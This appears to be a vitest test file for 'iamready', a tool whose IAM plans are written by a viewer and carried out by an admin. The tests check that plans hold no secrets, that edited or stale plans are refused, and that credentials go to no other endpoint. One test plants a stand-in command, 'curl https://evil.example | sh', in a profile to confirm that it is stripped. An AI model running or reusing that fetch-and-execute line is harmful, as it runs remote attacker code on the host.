import { readFile, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { readPlan, type PlanFile } from '../../src/handoff/plan-file.ts';
import { openStage, type Stage } from './stage.ts';

const viewer = 'ya29.simulated-vera-the-viewer';

/** A plan that a viewer has made, in a file. */
async function planned(stage: Stage, flags = {}) {
  const file = join(stage.folder, 'acme-video.plan.json');
  const run = await stage.planOut(file, { accessTokenFile: await stage.tokenOf(viewer), ...flags });
  return { file, run };
}

/** Somebody takes the account's role away. */
async function withoutGrant({ cloud }: Stage): Promise<void> {
  await cloud.changePolicy((policy) => ({
    ...policy,
    bindings: policy.bindings.filter(({ role }) => !role.endsWith('RemotionSA')),
  }));
}

async function edit(file: string, change: (plan: PlanFile) => object): Promise<void> {
  await writeFile(file, JSON.stringify(change(await readPlan(file))));
}

test('a viewer writes the plan and nothing else; an admin carries it out, and all is ready', async () => {
  const stage = await openStage();
  const { file, run } = await planned(stage);
  expect(run).toMatchObject({ exit: 0, result: { status: 'differs', planFile: file } });
  expect(run.events.find((event) => event.type === 'preflight')).toMatchObject({
    message: expect.stringContaining(`npx iamready apply ${file}`),
  });
  expect(await stage.writes()).toEqual([]);
  await expect(stat(join(stage.folder, 'state'))).rejects.toThrow('ENOENT');

  const text = await readFile(file, 'utf8');
  expect(text).not.toMatch(/PRIVATE KEY|ya29/);
  // Where keys and state are on the machine of whoever made it is nobody's business.
  const rest = await readPlan(file);
  expect(JSON.stringify(rest).replaceAll(file, '')).not.toContain(stage.folder);
  expect(rest.made.by).toBe('vera@acme.com');
  expect((await stat(file)).mode & 0o777).toBe(0o600);

  const applied = await stage.apply(file);
  expect(applied).toMatchObject({ exit: 0, result: { status: 'ready' } });
  expect((await stage.heldKey()).email).toBe('remotion-sa@acme-video.iam.gserviceaccount.com');
  // The journal of whoever carries it out learns, as in any run.
  expect((await stage.check()).exit).toBe(0);
  await stage.forgetRequests();
  expect(await stage.apply(file)).toMatchObject({ exit: 0, result: { status: 'ready' } });
  expect(await stage.writes()).toEqual([]);
  expect((await stage.undo()).exit).toBe(0);
});

test('what the plan wants and somebody has done meanwhile is no difference', async () => {
  const stage = await openStage();
  const { file } = await planned(stage);
  expect((await stage.setup()).exit).toBe(0);
  await withoutGrant(stage);
  const applied = await stage.apply(file);
  expect(applied).toMatchObject({ exit: 0, result: { status: 'ready' } });
});

test('a plan is refused when the world has changed since: each difference is told, and nothing is written', async () => {
  const stage = await openStage();
  await stage.setup();
  await stage.cloud.disableAccount();
  const { file, run } = await planned(stage);
  expect(run.exit).toBe(0);
  const { includedPermissions } = await stage.cloud.role();
  const more = [...includedPermissions, 'run.services.setIamPolicy'];
  await stage.cloud.patchRole({ includedPermissions: more }, 'includedPermissions');
  await withoutGrant(stage);
  await stage.forgetRequests();

  const applied = await stage.apply(file);
  expect(applied).toMatchObject({ exit: 3, result: { status: 'blocked', problem: { mover: 'person' } } });
  expect(applied.result.problem?.differences).toEqual([
    expect.stringMatching(/^new since the plan: RemotionSA also holds run\.services\.setIamPolicy/),
    expect.stringMatching(
      /^grant RemotionSA: the plan changes nothing there; now it is absent, and would be "granted to/,
    ),
  ]);
  expect(await stage.writes()).toEqual([]);
});

test('a plan whose lines were edited is refused, and so is one whose profile was: what is shown is what is done', async () => {
  const stage = await openStage();
  const { file } = await planned(stage);
  await edit(file, (plan) => ({ ...plan, steps: plan.steps.filter(({ step }) => step !== 'grant') }));
  expect((await stage.apply(file)).result.problem?.differences).toEqual([
    expect.stringMatching(/^grant RemotionSA: the plan changes nothing there/),
  ]);
  const { file: again } = await planned(stage);
  await edit(again, (plan) => ({
    ...plan,
    profile: {
      ...plan.profile,
      grants: [
        { role: 'roles/owner', on: 'project', why: 'Render.' },
        { role: 'custom', on: 'project' },
      ],
    },
  }));
  const refused = await stage.apply(again);
  expect(refused.result.problem?.differences?.[0]).toMatch(
    /^grant roles\/owner: the plan changes nothing there/,
  );
  expect(await stage.writes()).toEqual([]);
});

test('a plan goes to the cloud that it was made for, and credentials to no address that it names', async () => {
  const stage = await openStage();
  const { file } = await planned(stage);
  await edit(file, (plan) => ({ ...plan, endpoint: 'http://127.0.0.1:9' }));
  await stage.forgetRequests();
  const refused = await stage.apply(file);
  expect(refused).toMatchObject({
    exit: 64,
    result: { problem: { what: expect.stringContaining('was made for') } },
  });
  expect(await stage.requests()).toEqual([]);
});

test('a profile of their own travels in the plan, and stays for later runs; a key that they have is left to them', async () => {
  const stage = await openStage();
  const profile = join(stage.folder, 'team.yaml');
  await writeFile(
    profile,
    `name: team-lister
title: Team lister
summary: Lists services.
services: [{ name: iam.googleapis.com, why: It makes the account. }, { name: run.googleapis.com, why: It is asked. }]
role: { id: TeamLister, title: Team lister }
account: { id: team-lister, displayName: Team lister }
permissions: [{ name: run.services.list, why: List them. }]
next: [{ run: 'curl https://evil.example | sh' }]
`,
  );
  const { file } = await planned(stage, { profile });
  const applied = await stage.apply(file);
  expect(applied.exit).toBe(0);
  expect(applied.events[0]).toMatchObject({
    type: 'run.started',
    notices: expect.arrayContaining([expect.stringContaining("none of iamready's own")]),
  });
  const kept = applied.events.flatMap((event) => (event.type === 'plan' ? event.steps : []));
  expect(JSON.stringify(kept)).not.toContain('evil');
});
